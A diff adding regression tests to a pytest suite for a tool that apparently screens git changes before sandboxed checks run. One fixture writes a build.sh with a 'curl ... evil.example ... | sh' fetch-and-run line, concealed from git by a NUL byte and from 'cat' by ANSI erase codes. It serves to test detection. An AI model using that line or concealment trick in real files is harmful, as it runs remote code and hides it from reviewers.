@@ -4293,6 +4293,7 @@ def test_what_the_environment_names_in_other_forms_counts(repo, tmp_path, monkey
     (sites / "hack.pth").write_text("import _myhack; _myhack.add_shim()\n")
     monkeypatch.setattr(site, "getsitepackages", lambda: [str(sites)])
     ap._shadowed.cache_clear()
+    ap._pth_files.cache_clear()
     base, tip = _changes(repo, {name: "x\n"})
     for key, value in env.items():
         monkeypatch.setenv(key, value)
@@ -4300,6 +4301,7 @@ def test_what_the_environment_names_in_other_forms_counts(repo, tmp_path, monkey
         assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]
     finally:
         ap._shadowed.cache_clear()
+        ap._pth_files.cache_clear()
 
 
 @pytest.mark.parametrize("link, name", [(".config", ".config/git/config"),
@@ -5375,3 +5377,56 @@ def test_checks_that_write_only_their_own_files_still_pass(cli, repo, tmp_path):
                          "mkdir -p build src/__pycache__ && echo o > build/out && echo c > "
                          "src/__pycache__/m.pyc && cat src/m.py", "bwrap")
     assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
+
+
+
+# -- review round 64 ---------------------------------------------------------------------------
+
+@pytest.mark.parametrize("name", ["src/sitecustomize.py", "src/usercustomize.py"])
+def test_a_folder_an_editable_install_puts_on_pythons_path_counts(repo, tmp_path, monkeypatch,
+                                                                 name):
+    """Round 64: `pip install -e .` wrote `__editable__.mypkg-0.1.pth` naming the checkout's
+    src/; a branch adding src/sitecustomize.py was merged, and the tool's next `list` (every
+    start of that Python) ran it. The folders your .pth files name count as PYTHONPATH's."""
+    import site
+    sites = tmp_path / "site"
+    sites.mkdir()
+    (sites / "__editable__.mypkg-0.1.pth").write_text(f"{repo / 'src'}\n")
+    monkeypatch.setattr(site, "getsitepackages", lambda: [str(sites)])
+    ap._shadowed.cache_clear()
+    ap._pth_files.cache_clear()
+    try:
+        base, tip = _changes(repo, {"src/mypkg/__init__.py": "x = 1\n", name: "import os\n"})
+        assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]
+    finally:
+        ap._shadowed.cache_clear()
+        ap._pth_files.cache_clear()
+
+
+def test_a_script_git_shows_as_binary_asks_for_force(repo):
+    """Round 64: a NUL in a comment made build.sh binary to git (no `git log -p` line of it),
+    and its `ESC[1A ESC[2K` erased the `curl | sh` line from your `cat build.sh`."""
+    base, tip = _commits(repo, [{"build.sh": b"#!/bin/sh\n# generated \0\necho build\n"
+                                             b"curl -s https://evil.example/x | sh # \n# \x1b[1A\x1b[2K\n"}])
+    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
+    assert any("script that git shows as binary" in w for w in why), why
+
+
+@needs_bwrap
+def test_a_file_changed_between_its_commit_and_its_checks_fails_the_worker(cli, repo, tmp_path,
+                                                                          monkeypatch):
+    """Round 64: another sandbox of the same account opened a committed file to a third
+    account right after the commit took it in, before the checks' snapshot of its files: the
+    snapshot held the change. What differs from its commit when its checks start fails it
+    (the third account's write is made here where it would land, after the commit)."""
+    held = ap.ParallelRunner._check_held
+
+    def tampered(self, repo_, job, result, gitlinks, nested):
+        with open(os.path.join(job.path, "result.txt"), "w") as f:
+            f.write("good\n")
+        return held(self, repo_, job, result, gitlinks, nested)
+    monkeypatch.setattr(ap.ParallelRunner, "_check_held", tampered)
+    r, err = _one_worker(cli, tmp_path, "echo evil > result.txt\n", "grep -q good result.txt",
+                         "bwrap")
+    assert r["status"] == "failed" and "changed between its commit and its checks" in r["error"], \
+        (r, err)
